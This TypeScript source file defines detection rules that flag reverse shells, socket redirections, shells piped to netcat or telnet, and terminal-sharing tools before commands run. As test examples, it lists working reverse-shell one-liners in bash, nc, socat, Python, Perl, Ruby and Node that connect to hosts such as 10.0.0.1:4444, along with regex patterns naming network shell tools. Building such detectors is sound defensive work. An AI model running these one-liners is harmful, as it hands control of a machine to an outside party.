// Rules about shells handed to somebody else.

import { interpreterName, SHELLS } from '../../carriers/wrappers.ts'
import { TAINT } from '../../model.ts'
import { matching, only, type Rule, tools, verb } from '../rule.ts'

/** Code that speaks to the network, and code that runs commands: together, a shell for somebody else. */
const CONNECTS = /socket|fsockopen|TCPSocket|\/inet\/tcp|Net::|net["')]*\)?\.(?:connect|createServer|Socket)/i
const RUNS_COMMANDS =
  /\/bin\/(?:ba|z|da)?sh|dup2|pty\.spawn|subprocess|exec|\|&|fdopen|popen|proc_open|child_process|ProcessBuilder|run\(\s*pipeline|os\.execute/

const SOCKET = /^\/dev\/(?:tcp|udp)\//

export const SHELL_RULES: readonly Rule[] = [
  {
    id: 'reverse-shell',
    level: 'critical',
    why: 'Hands this machine’s shell to another machine.',
    tools: ['*'],
    when: (c) => {
      if (SHELLS.has(c.name))
        return c.redirections.filter((r) => SOCKET.test(r.target.text)).map((r) => r.target)
      if (/^(?:nc|ncat|netcat)$/.test(c.name))
        return matching(c.args, /^(?:-[a-zA-Z]*e|-c|--exec|--sh-exec|--lua-exec)$|^--(?:sh-)?exec=/).filter(
          () => c.args.some((arg) => /sh\b|bash|cmd|exec|perl|python/.test(arg.text)),
        )
      if (c.name === 'socat')
        return matching(c.args, /^(?:EXEC|SYSTEM):/i).filter(() =>
          c.args.some((arg) => /^(?:TCP|UDP|OPENSSL|SCTP)/i.test(arg.text)),
        )
      if (c.name === 'socket') return only(matching(c.args, /^-[a-z]*p/).length, matching(c.args, /sh\b/))
      if (!isInterpreter(c.name)) return undefined
      const read = { text: c.input.text ?? '', span: c.span, taint: c.input.taint }
      return [...c.args, read].filter((code) => CONNECTS.test(code.text) && RUNS_COMMANDS.test(code.text))
    },
    examples: {
      risky: [
        'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
        'nc -e /bin/sh 10.0.0.1 4444',
        'ncat --exec /bin/bash h 1',
        'socat TCP:h:1 EXEC:/bin/sh',
        'python3 -c \'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\'',
        'perl -e \'use Socket;exec("/bin/sh -i")\'',
        'nc -lvpe /bin/sh 1',
        "socket -qvp '/bin/sh -i' host 12345",
        'ruby -rsocket -e \'c=TCPSocket.new("h",1);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end\'',
        'node -e \'sh=require("child_process").spawn("/bin/sh");require("net").createServer(c=>c.pipe(sh.stdin)).listen(1)\'',
      ],
      harmless: [
        'nc -zv host 22',
        'socat - TCP:h:1',
        "python3 -c 'import socket; print(socket.gethostname())'",
        'bash -i',
        'nc -l 1234',
      ],
    },
  },
  {
    id: 'socket-open',
    level: 'high',
    why: 'Ties this shell to a network connection, as a reverse shell does.',
    tools: tools('exec'),
    when: (c) =>
      c.redirections.filter((r) => r.operator === '<>' && SOCKET.test(r.target.text)).map((r) => r.target),
    examples: {
      risky: ['exec 5<>/dev/tcp/10.0.0.1/80', '0<&196;exec 196<>/dev/tcp/h/1; sh <&196 >&196'],
      harmless: ['exec 5<>file', 'exec > log.txt'],
    },
  },
  {
    id: 'socket-redirect',
    level: 'moderate',
    why: 'Opens a network connection through a redirection.',
    tools: ['*'],
    when: (c) =>
      only(
        !SHELLS.has(c.name),
        c.redirections.filter((r) => SOCKET.test(r.target.text)).map((r) => r.target),
      ),
    examples: {
      risky: ['echo x > /dev/tcp/h/22', 'echo x > /dev/udp/h/1'],
      harmless: ['ls > /dev/null', 'curl h'],
    },
  },
  {
    id: 'shell-piped',
    level: 'critical',
    why: 'Whoever is at the other end of the connection types into this machine’s shell.',
    tools: [...SHELLS, ...tools('nc ncat netcat telnet openssl socat')],
    when: (c) => {
      const has = (kind: number) => (c.input.taint & kind) !== 0
      if (!SHELLS.has(c.name))
        return has(TAINT.shell) && (c.name !== 'openssl' || c.args[0]?.text === 's_client')
      const tied = c.redirections.filter((r) => c.scope.sockets?.has(r.target.text))
      return tied.length > 0
        ? tied.map((r) => r.target)
        : has(TAINT.dialogue) && c.args.every((arg) => /^-[isl]*$/.test(arg.text))
    },
    examples: {
      risky: [
        'sh -i | nc host 1',
        'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f',
        'mkfifo p; nc h 1 < p | sh > p 2>&1',
        'telnet h 1 | /bin/bash | telnet h 2',
        'exec 196<>/dev/tcp/h/1; sh <&196 >&196 2>&196',
      ],
      harmless: [
        'bash script.sh | nc host 1',
        'tar cz . | nc host 1',
        'nc -l 1 | tar xz',
        'nc -l 1 | nc host 2',
        'echo ls | sh',
        'bash -i',
      ],
    },
  },
  {
    id: 'share-terminal',
    level: 'moderate',
    why: 'Lets others see or use this terminal, or reach this machine through another.',
    tools: tools('ttyd gotty tmate sshx wetty ssh ngrok cloudflared localtunnel bore code'),
    when: (c, o) => {
      if (c.name === 'ssh')
        return only(
          c.args.some((arg) => /^-[A-Za-z]*R/.test(arg.text)),
          true,
        )
      if (c.name === 'code') return only(verb(o) === 'tunnel', true)
      if (c.name === 'cloudflared')
        return only(verb(o) === 'tunnel' && (verb(o, 1) === 'run' || o.flag('url')), true)
      return !o.flag('help', 'version', 'h', 'v')
    },
    examples: {
      risky: ['ttyd bash', 'ssh -R 2222:localhost:22 me@host', 'tmate -F', 'gotty -w bash', 'ngrok http 80'],
      harmless: ['ssh -L 8080:localhost:80 host', 'ssh host', 'ttyd --help'],
    },
  },
]

/** Interpreters that are more than the table of wrappers has, because nobody pipes code into them. */
const MORE =
  /^(?:[gmn]?awk|julia|jrunscript|jjs|groovy|scala|tclsh\d*|expect|luajit|R|octave|guile|elixir|erl|swipl|ghci)$/

function isInterpreter(name: string): boolean {
  return interpreterName(name) !== undefined || MORE.test(name)
}
